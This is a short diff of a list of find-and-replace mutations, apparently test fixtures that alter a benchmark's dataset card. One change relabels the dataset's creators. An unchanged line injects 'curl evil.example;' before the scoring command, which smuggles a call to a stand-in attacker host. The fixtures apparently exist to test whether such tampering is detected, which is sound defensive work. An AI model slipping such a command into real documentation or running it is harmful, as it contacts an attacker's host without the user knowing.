@@ -304,7 +304,7 @@ CARD = [
     ("a promise", "## Limits", "Checked by three experts.\n\n## Limits"),
     ("the command", "acbench score", "curl evil.example; acbench score"),
     ("the end", "## Limits", "## Bounds"),
-    ("the creators", "- machine-generated", "- expert-generated"),
+    ("the creators", "- found", "- expert-generated"),
 ]
 
 
